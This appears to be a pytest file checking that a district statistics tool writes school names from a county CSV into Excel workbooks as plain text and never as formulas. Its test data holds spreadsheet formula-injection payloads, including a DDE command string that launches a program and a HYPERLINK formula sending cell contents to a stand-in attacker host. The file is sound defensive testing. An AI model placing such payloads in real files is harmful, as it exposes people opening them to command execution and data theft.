"""Untrusted text never becomes a formula cell in any workbook the program writes.

The attack as made: school names such as =HYPERLINK(…) or =cmd|' /C calc'!A0 typed into a county
CSV, then `district-stats` wrote them into the county summary workbook as formulas.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.district.resource_table import read_resource_table
from desktop.district.roster import RosterEntry
from desktop.district.summary import summarise
from desktop.district.template import write_kindergarten_template, write_resource_template
from desktop.district.workbook import write_workbook
from tests.district.factories import junior, primary, table_row, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=2+2", "=1+1"]


def _no_formulas(path: Path) -> int:
    """Counts text cells; fails on any formula cell anywhere in the file."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                texts += cell.data_type == "s"
    return texts


def test_hostile_school_names_from_a_csv_stay_text_in_the_county_workbook(tmp_path, record):
    rows = [table_row(primary(name, 600 + n)) for n, name in enumerate(HOSTILE)]
    rows.append(table_row(junior("正常中学", 700)))
    table = write_csv(tmp_path / "统计表.csv", rows)
    records = read_resource_table(table)
    summary = summarise(records)
    roster = [RosterEntry(name) for name in HOSTILE[:3]] + [RosterEntry("=未提交学校()")]
    path = write_workbook(tmp_path / "汇总.xlsx", summary, roster=roster, records=records)
    _no_formulas(path)
    book = load_workbook(path)
    found = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    for name in HOSTILE:
        assert name.replace("\t", "") in {str(v).replace("\t", "") for v in found}, name
    record("formula injection", workbooks=1, hostile_names=len(HOSTILE))


def test_the_county_templates_write_their_text_as_text(tmp_path, record):
    _no_formulas(write_resource_template(tmp_path / "统计表模板.xlsx"))
    _no_formulas(write_kindergarten_template(tmp_path / "幼儿园模板.xlsx"))
    record("formula injection", workbooks=1)
